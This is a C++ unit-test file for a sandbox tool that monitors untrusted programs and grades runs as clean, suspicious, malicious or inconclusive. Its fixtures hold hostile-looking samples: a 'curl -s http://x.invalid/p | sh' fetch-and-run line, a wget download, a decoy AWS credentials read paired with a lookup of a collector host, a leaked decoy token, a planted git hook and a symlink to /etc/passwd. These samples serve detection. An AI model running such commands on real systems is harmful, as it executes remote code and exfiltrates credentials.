#include <gtest/gtest.h>
#include <signal.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>

#include "core/exit_code.hpp"
#include "sandbox/audit_log.hpp"
#include "sandbox/run_rules.hpp"
#include "sandbox/summary.hpp"

namespace hazmat::sandbox {
namespace {

namespace fs = std::filesystem;

RunRecord clean_record() {
    RunRecord record;
    record.persona.user_name = "alex";
    record.workspace_inside = "/home/alex/project";
    record.isolation.monitored = true;
    record.isolation.landlock_abi = 7;
    record.outcome.state = CommandOutcome::State::exited;
    return record;
}

Event open_event(std::string path, PathCategory category, std::string flags = "O_RDONLY") {
    Event event;
    event.type = EventType::open;
    event.syscall = "openat";
    event.pid = 2;
    event.program = "python3";
    event.path = path;
    event.resolved = path;
    event.category = category;
    event.flags = std::move(flags);
    event.decision = "continued";
    return event;
}

Event exec_event(std::vector<std::string> argv, bool first = false) {
    Event event;
    event.type = EventType::exec;
    event.syscall = "execve";
    event.pid = 3;
    event.program = "python3";
    event.path = "/usr/bin/" + argv.front();
    event.argv = std::move(argv);
    event.first = first;
    return event;
}

std::vector<const Finding*> with_rule(const Report& report, std::string_view rule) {
    std::vector<const Finding*> out;
    for (const auto& finding : report.findings()) {
        if (finding.rule_id == rule)
            out.push_back(&finding);
    }
    return out;
}

TEST(SandboxSummary, CleanRunPassesTheCommandStatusOn) {
    auto record = clean_record();
    record.outcome.exit_code = 3;
    Report report;
    summarize_run(record, report);
    EXPECT_TRUE(report.findings().empty());
    EXPECT_EQ(report.verdict, "clean");
    ASSERT_TRUE(report.command_status);
    EXPECT_EQ(report.command_status->state, CommandStatus::State::exited);
    EXPECT_EQ(exit_code_for(report), 3);
}

TEST(SandboxSummary, DecoyReadWithNetworkAttemptIsMalicious) {
    auto record = clean_record();
    record.events.push_back(open_event("/home/alex/.aws/credentials", PathCategory::decoy));
    Event dns;
    dns.type = EventType::dns;
    dns.address = "collector.example.invalid";
    dns.flags = "A";
    dns.decision = "NXDOMAIN (no network)";
    record.events.push_back(dns);
    Report report;
    summarize_run(record, report);
    const auto reads = with_rule(report, rules::kRunDecoyRead);
    ASSERT_EQ(reads.size(), 1u);
    EXPECT_EQ(reads[0]->severity, Severity::high);
    EXPECT_EQ(reads[0]->location.file(), "~/.aws/credentials");
    const auto network = with_rule(report, rules::kRunNetworkAttempt);
    ASSERT_EQ(network.size(), 1u);
    EXPECT_NE(network[0]->message.find("collector.example.invalid"), std::string::npos);
    EXPECT_EQ(report.verdict, "malicious");
    EXPECT_EQ(exit_code_for(report), kExitFindings);
}

TEST(SandboxSummary, LeakedDecoyValueIsCritical) {
    auto record = clean_record();
    record.decoys.secrets.push_back({"huggingface-token", "$HF_TOKEN", "hf_x"});
    record.leaks.insert({"huggingface-token", "base64", "stdout"});
    record.leaks.insert({"huggingface-token", "plain", "file out/log.txt"});
    Report report;
    summarize_run(record, report);
    const auto leaks = with_rule(report, rules::kRunDecoyLeak);
    ASSERT_EQ(leaks.size(), 2u);
    EXPECT_EQ(leaks[0]->severity, Severity::critical);
    EXPECT_EQ(report.verdict, "malicious");
    bool located = false;
    for (const auto* finding : leaks)
        located |= finding->location.file() == "out/log.txt";
    EXPECT_TRUE(located);
}

TEST(SandboxSummary, ClassifiesSpawnedProgramsButNotTheUsersOwnCommand) {
    auto record = clean_record();
    record.events.push_back(exec_event({"sh", "-c", "make"}, true));
    record.events.push_back(exec_event({"sh", "-c", "curl -s http://x.invalid/p | sh"}));
    record.events.push_back(exec_event({"wget", "http://x.invalid/p"}));
    record.events.push_back(exec_event({"crontab", "-l"}));
    Report report;
    summarize_run(record, report);
    ASSERT_EQ(with_rule(report, rules::kRunShellSpawned).size(), 1u);
    EXPECT_EQ(with_rule(report, rules::kRunShellSpawned)[0]->message,
              "The program ran a shell command: sh -c 'curl -s http://x.invalid/p | sh'");
    EXPECT_EQ(with_rule(report, rules::kRunDownloaderSpawned).size(), 2u);
    EXPECT_EQ(with_rule(report, rules::kRunPersistence).size(), 1u);
    EXPECT_EQ(report.verdict, "suspicious");
}

TEST(SandboxSummary, GroupsDenialsByKindWithEscapeKindsHigh) {
    auto record = clean_record();
    for (int i = 0; i < 3; ++i) {
        Event denied;
        denied.type = EventType::denied;
        denied.syscall = "unshare";
        denied.kind = "namespace creation";
        denied.detail = "CLONE_NEWUSER";
        denied.decision = "denied (EPERM)";
        record.events.push_back(denied);
    }
    Event uring;
    uring.type = EventType::denied;
    uring.syscall = "io_uring_setup";
    uring.kind = "io_uring";
    record.events.push_back(uring);
    record.repeats["denied|unshare|namespace creation||:0"] = 100;
    Report report;
    summarize_run(record, report);
    const auto denials = with_rule(report, rules::kRunDeniedSyscalls);
    ASSERT_EQ(denials.size(), 2u);
    for (const auto* finding : denials) {
        if (finding->message.find("namespace creation") != std::string::npos) {
            EXPECT_EQ(finding->severity, Severity::high);
            EXPECT_EQ(finding->message, "Denied 103 system calls of kind: namespace creation");
            EXPECT_EQ(finding->evidence.size(), 1u);
        } else {
            EXPECT_EQ(finding->severity, Severity::low);
        }
    }
}

TEST(SandboxSummary, HostServiceProbeOnlyWhenNothingListensInside) {
    auto record = clean_record();
    Event connect;
    connect.type = EventType::connect;
    connect.family = "inet";
    connect.address = "127.0.0.1";
    connect.port = 5432;
    record.events.push_back(connect);
    connect.port = 29500;
    connect.listener_inside = true;  // a training rendezvous inside the sandbox
    record.events.push_back(connect);
    Report report;
    summarize_run(record, report);
    const auto probes = with_rule(report, rules::kRunHostServiceProbe);
    ASSERT_EQ(probes.size(), 1u);
    EXPECT_EQ(probes[0]->message, "The program looked for a service at 127.0.0.1:5432");
}

TEST(SandboxSummary, TimeoutIsInconclusiveAndTrips) {
    auto record = clean_record();
    record.outcome.state = CommandOutcome::State::timed_out;
    record.limits.timeout = std::chrono::seconds(5);
    Report report;
    summarize_run(record, report);
    EXPECT_EQ(with_rule(report, rules::kRunTimedOut).size(), 1u);
    EXPECT_EQ(report.verdict, "inconclusive");
    EXPECT_EQ(exit_code_for(report), kExitFindings);
}

TEST(SandboxSummary, LostEventsOrMissingMonitorMakeTheRunInconclusive) {
    auto lost = clean_record();
    lost.lost_events = 4;
    Report report;
    summarize_run(lost, report);
    EXPECT_EQ(report.verdict, "inconclusive");
    EXPECT_EQ(with_rule(report, rules::kRunMonitorIncomplete).size(), 1u);

    auto unmonitored = clean_record();
    unmonitored.isolation.monitored = false;
    unmonitored.isolation.degraded.push_back("seccomp user notification");
    Report second;
    summarize_run(unmonitored, second);
    EXPECT_EQ(second.verdict, "inconclusive");
    EXPECT_EQ(with_rule(second, rules::kRunDegraded).size(), 1u);
}

TEST(SandboxSummary, CrashBySignalIsInconclusiveWithShellStatus) {
    auto record = clean_record();
    record.outcome.state = CommandOutcome::State::signaled;
    record.outcome.signal = SIGSYS;
    Report report;
    summarize_run(record, report);
    EXPECT_EQ(report.verdict, "inconclusive");
    EXPECT_EQ(exit_code_for(report), 128 + SIGSYS);
    ASSERT_EQ(with_rule(report, rules::kRunCommandFailed).size(), 1u);
}

TEST(SandboxSummary, WorkspaceChangesAreListedAndRiskyOnesFlagged) {
    auto record = clean_record();
    record.layer_name = "demo";
    WorkspaceDiff diff;
    diff.changes.push_back({".git/hooks/post-checkout",
                            ChangeKind::added,
                            EntryType::file,
                            10,
                            0755,
                            "",
                            false,
                            {"git hook (runs on checkout, commit, merge)"}});
    diff.changes.push_back({"link",
                            ChangeKind::added,
                            EntryType::symlink,
                            0,
                            0777,
                            "/etc/passwd",
                            true,
                            {"symlink leading outside the workspace"}});
    diff.changes.push_back(
        {"model.json", ChangeKind::added, EntryType::file, 2, 0644, "", false, {}});
    record.workspace_diff = diff;
    Report report;
    summarize_run(record, report);
    ASSERT_EQ(with_rule(report, rules::kRunRiskyWorkspaceChange).size(), 1u);
    EXPECT_EQ(with_rule(report, rules::kRunRiskyWorkspaceChange)[0]->location.file(),
              ".git/hooks/post-checkout");
    ASSERT_EQ(with_rule(report, rules::kRunEscapingSymlink).size(), 1u);
    const auto listing = with_rule(report, rules::kRunWorkspaceChanges);
    ASSERT_EQ(listing.size(), 1u);
    EXPECT_EQ(listing[0]->message,
              "3 added, 0 modified, 0 deleted; kept in layer 'demo' (not applied)");
    EXPECT_EQ(listing[0]->evidence.back(), "added file model.json");
}

TEST(SandboxSummary, ProgramKinds) {
    EXPECT_EQ(program_kind("/usr/bin/bash", "bash"), "shell");
    EXPECT_EQ(program_kind("/usr/bin/curl", "curl"), "downloader");
    EXPECT_EQ(program_kind("/bin/busybox", "nc"), "shell");
    EXPECT_EQ(program_kind("/usr/bin/nc.openbsd", "nc"), "downloader");
    EXPECT_EQ(program_kind("/usr/bin/crontab", "crontab"), "scheduler");
    EXPECT_EQ(program_kind("/usr/bin/python3", "python3"), "");
}

class AuditLogTest : public ::testing::Test {
  protected:
    void SetUp() override {
        std::string pattern = (fs::temp_directory_path() / "hazmat-log-XXXXXX").string();
        dir_ = mkdtemp(pattern.data());
    }
    void TearDown() override {
        std::error_code ec;
        fs::remove_all(dir_, ec);
    }
    std::vector<nlohmann::json> lines(const fs::path& file) {
        std::vector<nlohmann::json> out;
        std::ifstream in(file);
        std::string line;
        while (std::getline(in, line))
            out.push_back(nlohmann::json::parse(line));
        return out;
    }
    fs::path dir_;
};

TEST_F(AuditLogTest, WritesOneJsonObjectPerEventAndAppends) {
    const auto log = dir_ / "audit.jsonl";
    for (int run = 0; run < 2; ++run) {
        auto recorder = EventRecorder::open(log);
        ASSERT_TRUE(recorder.ok());
        (*recorder)->record_raw({{"event", "start"}, {"run", run}});
        auto event = exec_event({"sh", "-c", "echo hi"});
        (*recorder)->record(event);
        (*recorder)->finish();
    }
    const auto written = lines(log);
    ASSERT_EQ(written.size(), 4u);
    EXPECT_EQ(written[0]["run"], 0);
    EXPECT_EQ(written[2]["run"], 1);
    EXPECT_EQ(written[1]["event"], "exec");
    EXPECT_EQ(written[1]["argv"], nlohmann::json({"sh", "-c", "echo hi"}));
}

TEST_F(AuditLogTest, CountsRepeatsInsteadOfLoggingThemAll) {
    const auto log = dir_ / "audit.jsonl";
    auto recorder = EventRecorder::open(log);
    ASSERT_TRUE(recorder.ok());
    Event denied;
    denied.type = EventType::denied;
    denied.syscall = "io_uring_setup";
    denied.kind = "io_uring";
    for (int i = 0; i < 1000; ++i)
        (*recorder)->record(denied);
    (*recorder)->finish();
    const auto written = lines(log);
    ASSERT_EQ(written.size(), EventRecorder::kRepeatsLogged + 1);
    EXPECT_EQ(written.back()["event"], "repeats");
    EXPECT_EQ(written.back()["not_logged_individually"]["denied|io_uring_setup|io_uring||:0"],
              1000 - EventRecorder::kRepeatsLogged);
    EXPECT_EQ((*recorder)->events().size(), EventRecorder::kRepeatsLogged);
    EXPECT_EQ((*recorder)->lost(), 0u);
}

TEST_F(AuditLogTest, RefusesToFollowALinkPlantedAsTheLog) {
    const auto target = dir_ / "elsewhere";
    std::ofstream(target) << "";
    fs::create_symlink(target, dir_ / "audit.jsonl");
    EXPECT_FALSE(EventRecorder::open(dir_ / "audit.jsonl").ok());
}

}  // namespace
}  // namespace hazmat::sandbox
